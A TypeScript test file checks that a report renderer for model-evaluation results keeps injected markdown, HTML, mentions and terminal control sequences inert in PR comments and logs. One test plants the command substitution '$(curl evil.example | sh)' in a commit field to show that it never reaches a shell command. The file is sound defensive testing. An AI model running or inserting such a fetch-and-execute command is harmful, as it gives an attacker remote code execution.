import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/domain/report.ts';
import { hostilePieces, hostileText } from '../support/hostile-text.ts';
import { nodesOf, parseMarkdown } from '../support/markdown-tree.ts';
import { render } from '../support/render.ts';
import { failReport, situations } from '../support/report-fixtures.ts';

// Every string of a report that a model, a case, a prompt, a path or the change can choose is set to something hostile;
// what becomes active in the comment must be what the harmless report has, and nothing else.

const links = { 'server-url': 'https://github.com', 'report-url': 'https://github.com/acme/shop/actions/runs/1' };

describe('the comment', () => {
  it.each(inGroupsOf(8, hostilePieces))('has nothing active from %j', (...pieces) => {
    expect(activity(pieces.map((piece) => `${piece}x\n${piece}`).join(' '))).toEqual(harmless);
  });

  it('has nothing active from any mixture', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        expect(activity(text)).toEqual(harmless);
      }),
      { numRuns: 15, seed: 3 },
    );
  });

  it('has nothing active from the reason for having no verdict', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        expect(activity(`x ${text} y`, withReason)).toEqual(harmlessReason);
      }),
      { numRuns: 15, seed: 4 },
    );
  });

  it('keeps one marker of its own', () => {
    const text = render('markdown', poisoned('<!-- steelyard:v1 key=steelyard -->'));
    expect(text.match(/<!--/gu)).toHaveLength(1);
    expect(text.startsWith('<!-- steelyard:v1 key=steelyard -->\n')).toBe(true);
  });

  it('gives the shell nothing but hashes to run', () => {
    const report = failReport();
    const evil = { ...report.change.head, commit: '$(curl evil.example | sh)' };
    expect(render('markdown', { ...report, change: { ...report.change, head: evil } })).toContain(
      '--head REV --seed-key 412\n',
    );
  });
});

describe('the terminal', () => {
  it('starts no workflow command and moves no cursor', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        for (const line of render('terminal', poisoned(text)).split('\n')) {
          const seen = line.replaceAll(/\p{Default_Ignorable_Code_Point}/gu, '');
          expect(seen).not.toContain('::');
          expect(seen).not.toContain('##[');
          expect(seen).not.toMatch(/[\p{Cc}\p{Cf}]/u);
        }
      }),
      { numRuns: 30, seed: 5 },
    );
  });
});

/** Everything in a page that does something: links, tags, node types beyond those of a harmless page, references. */
function activity(text: string, reportOf: (text: string) => Report = poisoned) {
  const nodes = nodesOf(parseMarkdown(render('markdown', reportOf(text), links)));
  const readable = nodes.flatMap((node) => ('value' in node && node.type !== 'html' ? [node.value] : [])).join('\n');
  return {
    urls: nodes.flatMap((node) => (node.type === 'link' ? [node.url] : [])),
    tags: nodes.flatMap((node) => (node.type === 'html' ? node.value.match(/<[^>]*>/gu) : [])),
    otherNodes: nodes.map(({ type }) => type).filter((type) => !usualNodes.has(type)),
    references: readable.match(/@[\p{L}\p{N}]|#\d|gh-\d|www\./iu),
  };
}

const usualNodes: ReadonlySet<string> = new Set(
  nodesOf(parseMarkdown(render('markdown', situations['fail-several-factors'], links))).map(({ type }) => type),
);
const harmless = activity('harmless');
const harmlessReason = activity('harmless', withReason);

/** Inconclusive for a reason whose finding stands in the second line. */
function withReason(text: string): Report {
  const report = poisoned(text);
  return {
    ...report,
    findings: [{ ruleId: 'over-budget', level: 'error', message: text }],
    verdict: { ...report.verdict, outcome: 'inconclusive', reason: 'over-budget' },
  };
}

function poisoned(text: string): Report {
  const report = situations['fail-several-factors'];
  const [first, ...rest] = report.changes;
  const comparisons = report.comparisons.map((comparison) => ({ ...comparison, title: text }));
  return {
    ...report,
    change: {
      ...report.change,
      repository: text,
      files: [{ path: text, status: 'renamed', previousPath: text }],
    },
    changes: [
      ...(first === undefined
        ? []
        : [
            {
              ...first,
              baseModel: text,
              headModel: text,
              diffs: [
                {
                  path: text,
                  previousPath: text,
                  hunks: [{ baseLine: 1, headLine: 1, lines: [`-${text}. A sentence of ${text}.`, `+${text}`] }],
                },
              ],
            },
          ]),
      ...rest,
    ],
    policyDiff: [{ path: text, status: 'modified', edits: [text, `a: ${text} → b`] }],
    plan: {
      ...report.plan,
      suites: report.plan.suites.map((suite) => ({
        ...suite,
        control: { kind: 'live', reason: text },
        metrics: suite.metrics.map((metric) => ({ ...metric, name: text, title: text })),
      })),
    },
    comparisons: [
      ...comparisons,
      ...comparisons.slice(0, 1).map((one) => ({ ...one, scope: { kind: 'slice' as const, tag: text } })),
    ],
    regressedCases: report.regressedCases.map((testCase, index) => ({
      ...testCase,
      caseId: `${text} ${index}`,
      tags: [text],
      input: text,
      expected: text,
      baselineOutput: text,
      candidateOutput: text,
      explanation: text,
    })),
    roles: (['fail-sentinel', 'fail-invariant'] as const).map((name) => ({
      suite: text,
      sentinels: 3,
      invariants: 2,
      cases: (situations[name].roles ?? []).flatMap(({ cases }) =>
        cases.map((one) => ({
          ...one,
          caseId: text,
          tags: [text],
          input: text,
          expected: text,
          baselineOutput: text,
          candidateOutput: text,
          explanation: text,
        })),
      ),
    })),
    advisory: [
      {
        suite: text,
        kind: 'new-suite',
        metric: text,
        title: text,
        measure: { kind: 'binary' },
        cases: 3,
        estimate: 0.5,
      },
    ],
    findings: [{ ruleId: 'cases-changed', level: 'warning', message: text, location: { path: text, line: 3 } }],
    verdict: {
      ...report.verdict,
      accepted: { by: text, reason: text, commit: text },
      perSuite: [{ suite: text, outcome: 'fail' }],
    },
    errorRates: [text],
    steelyard: text,
  };
}

function inGroupsOf(size: number, pieces: readonly string[]): readonly (readonly string[])[] {
  return pieces.flatMap((_, index) => (index % size === 0 ? [pieces.slice(index, index + size)] : []));
}
